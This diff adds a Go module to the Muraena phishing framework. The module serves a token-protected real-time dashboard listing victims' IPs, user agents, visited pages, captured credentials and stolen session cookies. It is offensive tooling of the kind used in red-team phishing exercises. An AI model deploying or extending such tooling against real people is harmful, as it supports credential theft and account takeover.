@@ -0,0 +1,348 @@
+// Package dashboard serves a real-time web dashboard for the operator
+package dashboard
+
+import (
+	"crypto/rand"
+	_ "embed"
+	"encoding/hex"
+	"encoding/json"
+	"net"
+	"net/http"
+	"sort"
+	"sync"
+	"time"
+
+	"github.com/evilsocket/islazy/tui"
+	"golang.org/x/net/websocket"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+const (
+	// Name of this module
+	Name = "dashboard"
+
+	// Description of this module
+	Description = "Real-time web dashboard of the victims, captured data and watchdog events"
+
+	// Author of this module
+	Author = "Muraena Team"
+
+	// tokenCookie keeps the dashboard token in the operator browser
+	tokenCookie = "dashboard_token"
+
+	// statsInterval is the interval between the statistics updates
+	statsInterval = 5 * time.Second
+)
+
+//go:embed index.html
+var index []byte
+
+// Dashboard module
+type Dashboard struct {
+	session.SessionModule
+
+	Enabled bool
+	Listen  string
+	Token   string
+
+	history int
+
+	mu      sync.RWMutex
+	victims map[string]*Victim
+	events  []session.Event
+	clients map[chan interface{}]struct{}
+}
+
+// Victim is the live state of a victim
+type Victim struct {
+	ID          string            `json:"id"`
+	IP          string            `json:"ip"`
+	UA          string            `json:"ua"`
+	FirstSeen   time.Time         `json:"firstSeen"`
+	LastSeen    time.Time         `json:"lastSeen"`
+	Page        string            `json:"page"`
+	Credentials []Credential      `json:"credentials"`
+	Cookies     map[string]string `json:"cookies"` // name: domain
+	Session     string            `json:"session"` // name of the session profile completed
+}
+
+// Credential is a captured credential
+type Credential struct {
+	Key   string    `json:"key"`
+	Value string    `json:"value"`
+	Time  time.Time `json:"time"`
+}
+
+// message is sent to the dashboard clients
+type message struct {
+	Type    string                            `json:"type"`
+	Victims []*Victim                         `json:"victims,omitempty"`
+	Events  []session.Event                   `json:"events,omitempty"`
+	Event   *session.Event                    `json:"event,omitempty"`
+	Stats   map[string]map[string]interface{} `json:"stats,omitempty"`
+}
+
+// Name returns the module name
+func (module *Dashboard) Name() string {
+	return Name
+}
+
+// Description returns the module description
+func (module *Dashboard) Description() string {
+	return Description
+}
+
+// Author returns the module author
+func (module *Dashboard) Author() string {
+	return Author
+}
+
+// Prompt prints module status based on the provided parameters
+func (module *Dashboard) Prompt() {
+	module.Raw("Dashboard: http://%s/?token=%s", module.Listen, module.Token)
+}
+
+// Load configures the module by initializing its main structure and variables
+func Load(s *session.Session) (m *Dashboard, err error) {
+
+	config := s.Config.Dashboard
+	m = &Dashboard{
+		SessionModule: session.NewSessionModule(Name, s),
+		Enabled:       config.Enabled,
+		Listen:        config.Listen,
+		Token:         config.Token,
+		history:       config.History,
+		victims:       make(map[string]*Victim),
+		clients:       make(map[chan interface{}]struct{}),
+	}
+
+	if !m.Enabled {
+		m.Debug("is disabled")
+		return
+	}
+
+	// The dashboard exposes the captured data, it is never served without authentication
+	if m.Token == "" {
+		b := make([]byte, 16)
+		if _, err = rand.Read(b); err != nil {
+			return nil, err
+		}
+		m.Token = hex.EncodeToString(b)
+	}
+
+	listener, ok, err := session.ListenSocket(m.Listen)
+	if !ok {
+		listener, err = net.Listen("tcp", m.Listen)
+	}
+	if err != nil {
+		return nil, err
+	}
+
+	events, _ := session.Subscribe(1024)
+	go m.consume(events)
+	go m.publishStats()
+
+	go func() {
+		if err := http.Serve(listener, m.Handler()); err != nil {
+			m.Error("%v", err)
+		}
+	}()
+
+	m.Important("listening on %s", tui.Bold(tui.Green("http://"+m.Listen+"/?token="+m.Token)))
+	return
+}
+
+// Handler returns the HTTP handler of the dashboard
+func (module *Dashboard) Handler() http.Handler {
+	mux := http.NewServeMux()
+
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/" {
+			http.NotFound(w, r)
+			return
+		}
+
+		// Keep the token in a cookie, so that it is not needed in the API and WebSocket URLs
+		if token := r.URL.Query().Get("token"); token != "" {
+			http.SetCookie(w, &http.Cookie{
+				Name:     tokenCookie,
+				Value:    token,
+				Path:     "/",
+				HttpOnly: true,
+				SameSite: http.SameSiteStrictMode,
+			})
+		}
+
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		w.Header().Set("Content-Security-Policy", "default-src 'self'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; connect-src 'self'")
+		_, _ = w.Write(index)
+	})
+
+	mux.HandleFunc("/api/state", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_ = json.NewEncoder(w).Encode(module.snapshot())
+	})
+
+	mux.Handle("/ws", websocket.Handler(module.serveWebSocket))
+
+	return module.Session.AdminHandler(Name, module.Token, token, mux)
+}
+
+// token returns the token sent as query parameter, Bearer or cookie
+func token(r *http.Request) string {
+	if token := r.URL.Query().Get("token"); token != "" {
+		return token
+	}
+	if token := session.BearerToken(r); token != "" {
+		return token
+	}
+	if c, err := r.Cookie(tokenCookie); err == nil {
+		return c.Value
+	}
+	return ""
+}
+
+// serveWebSocket sends the current state, then the events and statistics as they happen
+func (module *Dashboard) serveWebSocket(ws *websocket.Conn) {
+	defer ws.Close()
+
+	updates := make(chan interface{}, 256)
+	module.mu.Lock()
+	module.clients[updates] = struct{}{}
+	module.mu.Unlock()
+
+	defer func() {
+		module.mu.Lock()
+		delete(module.clients, updates)
+		module.mu.Unlock()
+	}()
+
+	if err := websocket.JSON.Send(ws, module.snapshot()); err != nil {
+		return
+	}
+
+	// Detect the client disconnection
+	closed := make(chan struct{})
+	go func() {
+		var discard string
+		for websocket.Message.Receive(ws, &discard) == nil {
+		}
+		close(closed)
+	}()
+
+	for {
+		select {
+		case <-closed:
+			return
+		case update := <-updates:
+			if err := websocket.JSON.Send(ws, update); err != nil {
+				return
+			}
+		}
+	}
+}
+
+// consume updates the state of the victims with the session events
+func (module *Dashboard) consume(events <-chan session.Event) {
+	for e := range events {
+		module.Update(e)
+	}
+}
+
+// Update applies an event to the dashboard state and forwards it to the clients
+func (module *Dashboard) Update(e session.Event) {
+	module.mu.Lock()
+	defer module.mu.Unlock()
+
+	if e.Victim != "" {
+		v, ok := module.victims[e.Victim]
+		if !ok {
+			v = &Victim{ID: e.Victim, FirstSeen: e.Time, Cookies: make(map[string]string)}
+			module.victims[e.Victim] = v
+		}
+		v.LastSeen = e.Time
+
+		switch e.Type {
+		case session.EventVictim:
+			v.IP, v.UA = e.Data["ip"], e.Data["ua"]
+		case session.EventRequest:
+			v.Page = e.Data["host"] + e.Data["path"]
+		case session.EventCredentials:
+			v.Credentials = append(v.Credentials, Credential{Key: e.Data["key"], Value: e.Data["value"], Time: e.Time})
+		case session.EventCookie:
+			v.Cookies[e.Data["name"]] = e.Data["domain"]
+		case session.EventSessionComplete:
+			v.Session = e.Data["profile"]
+		}
+	}
+
+	// Page views are reflected in the victim state only, they would flood the events
+	if e.Type != session.EventRequest {
+		module.events = append(module.events, e)
+		if len(module.events) > module.history {
+			module.events = module.events[len(module.events)-module.history:]
+		}
+	}
+
+	update := message{Type: "event", Event: &e}
+	if e.Victim != "" {
+		update.Victims = module.victimList(e.Victim)
+	}
+	module.broadcast(update)
+}
+
+// publishStats sends the runtime statistics to the clients periodically
+func (module *Dashboard) publishStats() {
+	for range time.Tick(statsInterval) {
+		stats := session.Stats()
+
+		module.mu.Lock()
+		module.broadcast(message{Type: "stats", Stats: stats})
+		module.mu.Unlock()
+	}
+}
+
+// broadcast sends the update to the clients, skipping the slow ones. The lock must be held.
+func (module *Dashboard) broadcast(update interface{}) {
+	for ch := range module.clients {
+		select {
+		case ch <- update:
+		default:
+		}
+	}
+}
+
+// snapshot returns the whole dashboard state
+func (module *Dashboard) snapshot() message {
+	module.mu.RLock()
+	defer module.mu.RUnlock()
+
+	return message{
+		Type:    "snapshot",
+		Victims: module.victimList(""),
+		Events:  append([]session.Event{}, module.events...),
+		Stats:   session.Stats(),
+	}
+}
+
+// victimList returns a copy of the victim with the given ID, or of all the victims sorted by last activity
+// if the ID is empty. The lock must be held.
+func (module *Dashboard) victimList(id string) (victims []*Victim) {
+	for _, v := range module.victims {
+		if id != "" && v.ID != id {
+			continue
+		}
+
+		c := *v
+		c.Credentials = append([]Credential{}, v.Credentials...)
+		c.Cookies = make(map[string]string, len(v.Cookies))
+		for name, domain := range v.Cookies {
+			c.Cookies[name] = domain
+		}
+		victims = append(victims, &c)
+	}
+
+	sort.Slice(victims, func(i, j int) bool { return victims[i].LastSeen.After(victims[j].LastSeen) })
+	return
+}